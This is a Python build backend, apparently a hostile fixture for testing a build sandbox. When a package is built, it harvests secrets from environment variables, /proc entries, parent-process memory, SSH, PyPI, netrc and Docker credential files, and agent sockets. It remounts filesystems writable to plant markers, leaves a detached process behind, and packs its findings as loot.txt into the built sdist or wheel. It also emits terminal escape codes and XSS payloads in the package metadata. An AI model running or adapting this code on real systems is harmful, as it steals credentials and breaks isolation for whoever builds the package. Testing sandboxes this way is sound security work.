"""A build backend that hunts for secrets, writes where it should not, and packs what it found as loot.txt.

Where the source holds a file `only-look`, it writes nothing outside: that is for a hunt without walls.
"""

import contextlib
import io
import os
import re
import socket
import subprocess
import sys
import sysconfig
import tarfile
import time
import tomllib
import zipfile
from collections.abc import Iterator
from pathlib import Path

SECONDS = 2.0  # for reading files
LOOT = 32 * 1024 * 1024  # bytes
MARK = "hostile-was-here"
TEMPORARY = Path("/tmp")  # noqa: S108  (everybody's, and that is the point)

PROJECT = tomllib.loads(Path("pyproject.toml").read_text())["project"]
STEM = f"{PROJECT['name'].replace('-', '_')}-{PROJECT['version']}"


def environments() -> Iterator[bytes]:
    yield repr(dict(os.environ)).encode()
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline"):
            yield read(process / name)
        for descriptor in (process / "fd").glob("*") if os.access(process / "fd", os.R_OK) else ():
            if os.path.isfile(descriptor):  # noqa: PTH113  (a pipe would be waited for; says no when forbidden)
                yield read(descriptor)


def memory_of_parents() -> Iterator[bytes]:
    """The heaps of everything above us: a token that was once read is there."""
    pid = os.getppid()
    while pid > 1:
        try:
            maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
            status = Path(f"/proc/{pid}/status").read_text()
            with Path(f"/proc/{pid}/mem").open("rb") as memory:
                for line in maps:
                    if "[heap]" in line or "[stack]" in line:
                        start, end = (int(part, 16) for part in line.split()[0].split("-"))
                        memory.seek(start)
                        content = memory.read(min(end - start, LOOT))
                        yield b"\n".join(re.findall(rb"[ -~]{0,80}scrt[ -~]{0,80}", content))
        except OSError:
            return
        pid = int(status.partition("PPid:")[2].split()[0])


def places() -> Iterator[Path]:
    """Return what may belong to others, the most promising first."""
    ours = Path.cwd()
    alternates = next((top / ".git/objects/info/alternates" for top in (ours, *ours.parents)
                       if (top / ".git/objects/info/alternates").is_file()), None)  # fmt: skip
    if alternates is not None:
        yield from Path(alternates.read_text().strip()).parents[:6][
            1:
        ]  # the mirror, its siblings, DAGSTER_HOME
    if "UV_CACHE_DIR" in os.environ:
        yield from list(Path(os.environ["UV_CACHE_DIR"]).parents)[:5]
    for name in ("DAGSTER_HOME", "RELEASE_ASSETS_STORE", "DOCKER_CONFIG", "HOME"):
        if name in os.environ:
            yield Path(os.environ[name])
    for name in ("~/.netrc", "~/.pypirc", "~/.docker", "~/.ssh", "~/.config", "~/.local/share/keyrings", "~"):
        yield Path(name).expanduser()
    for name in ("/root", "/home", "/run", "/var/lib", "/var/run", "/opt/dagster"):
        yield Path(name)
    yield TEMPORARY


def files() -> Iterator[bytes]:
    deadline = time.monotonic() + SECONDS
    for place in places():
        for folder, _, names in os.walk(place):
            for name in names:
                if time.monotonic() > deadline:
                    return
                if (path := Path(folder, name)).is_file():
                    yield str(path).encode() + b": " + read(path)


def sockets() -> Iterator[bytes]:
    for path in ("/run/docker.sock", "/var/run/docker.sock", *map(str, TEMPORARY.glob("ssh-*/agent.*"))):
        with socket.socket(socket.AF_UNIX) as connection:
            try:
                connection.connect(path)
            except OSError:
                continue
            yield f"reached {path}".encode()


def writes() -> Iterator[bytes]:
    """Leave a mark in every place, and make read-only mounts writable before."""
    for place in (
        *places(),
        *map(Path, (sysconfig.get_path("purelib"), sys.prefix, sys.base_prefix, "/usr/lib")),
    ):
        with contextlib.suppress(FileNotFoundError):  # an image may lack it
            subprocess.run(["/bin/mount", "-o", "remount,rw,bind", place], capture_output=True, check=False)
        try:
            (place / MARK).write_text(MARK)
        except OSError:
            continue
        yield f"wrote {place / MARK}".encode()


def read(path: Path) -> bytes:
    try:
        with path.open("rb") as file:
            return file.read(256 * 1024)
    except OSError:
        return b""


def loot() -> bytes:
    found = io.BytesIO()
    hunts = [environments(), memory_of_parents(), files(), sockets()]
    for hunt in hunts if Path("only-look").exists() else [*hunts, writes()]:
        for piece in hunt:
            if found.tell() < LOOT:
                found.write(piece + b"\n")
    return found.getvalue()


def leave_a_process_behind() -> None:
    program = f"import time; time.sleep(120)  # {MARK} {STEM}"
    subprocess.Popen(
        [sys.executable, "-c", program],
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def shout() -> None:
    print("\x1b]0;owned\x07\x1b[2J\x1b[31mhostile\x9b31m\r\b")
    print("x" * 2_000_000)


def build_sdist(sdist_directory: str, config_settings: object = None) -> str:  # noqa: ARG001  (PEP 517's arguments)
    shout()
    leave_a_process_behind()
    content = {"loot.txt": loot(), "PKG-INFO": core_metadata()}
    content |= {name: Path(name).read_bytes() for name in ("pyproject.toml", "backend.py")}
    name = f"{STEM}.tar.gz"
    with tarfile.open(Path(sdist_directory, name), "w:gz", compresslevel=1) as archive:
        for inner, data in content.items():
            member = tarfile.TarInfo(f"{STEM}/{inner}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return name


def build_wheel(wheel_directory: str, config_settings: object = None, metadata: object = None) -> str:  # noqa: ARG001
    shout()
    leave_a_process_behind()
    name = f"{STEM}-py3-none-any.whl"
    info = f"{STEM}.dist-info"
    with zipfile.ZipFile(Path(wheel_directory, name), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("loot.txt", loot())
        archive.writestr(f"{info}/METADATA", core_metadata())
        archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(
            f"{info}/RECORD", f"loot.txt,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n"
        )
    return name


def core_metadata() -> bytes:
    lines = [
        "Metadata-Version: 2.1",
        f"Name: {PROJECT['name']}",
        f"Version: {PROJECT['version']}",
        "Summary: \x1b[31m<img src=x onerror=alert(1)> [a](javascript:b)",
        "Description-Content-Type: text/markdown",
        "",
        "<script>alert(1)</script>",
    ]
    return "\n".join(lines).encode()
